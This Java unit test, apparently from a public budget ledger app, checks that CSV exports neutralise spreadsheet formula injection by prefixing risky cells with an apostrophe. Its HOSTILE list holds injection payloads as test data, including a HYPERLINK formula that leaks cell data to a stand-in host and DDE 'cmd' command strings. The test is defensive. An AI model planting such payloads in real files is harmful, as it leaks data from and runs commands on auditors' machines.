package org.publicbudget.ledger.app.audit.exports;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.time.Instant;
import java.time.ZoneId;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.publicbudget.ledger.domain.money.FundingSource;

/** What a CSV export holds when names and targets were written by someone who wants to run code in an auditor's Excel. */
class TableFilesTest {

    private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "    =HYPERLINK(\"http://evil.example\")", "\u3000=1+1",
            "\u00A0+1", "＝1+1");

    @Test
    void noTextCellStartsLikeAFormulaAndEachStaysReadable() {
        List<DepartmentTable.Row> rows = new ArrayList<>();
        for (String name : HOSTILE) {
            rows.add(new DepartmentTable.Row(name, new BigDecimal("-0.01"), Map.of(FundingSource.OTHER, new BigDecimal("-0.01")), name, name,
                    new BigDecimal("-0.01"), new BigDecimal("-0.01"), new BigDecimal("-0.01"), new BigDecimal("-0.01")));
        }
        String csv = new String(TableFiles.csv(new DepartmentTable("=部门", 2025, rows),
                new Citation("=部门", 2025, "=1+1", null, Instant.parse("2026-12-05T06:30:00Z"), ZoneId.of("Asia/Shanghai"))), StandardCharsets.UTF_8);

        List<String> cells = new ArrayList<>();
        for (String line : csv.substring(1, csv.length() - 2).split("\r\n(?=\")")) {
            for (String cell : line.substring(1, line.length() - 1).split("\",\"", -1)) {
                cells.add(cell.replace("\"\"", "\""));
            }
        }
        assertThat(cells).filteredOn(cell -> !cell.equals("-0.01")).noneMatch(cell -> !cell.isBlank() && "=+-@\t\r".indexOf(cell.strip().charAt(0)) >= 0);
        for (String name : HOSTILE) {
            assertThat(cells).as("shown as written, behind an apostrophe").contains("'" + name);
        }
        assertThat(cells).as("amounts stay numbers").contains("-0.01");
    }
}
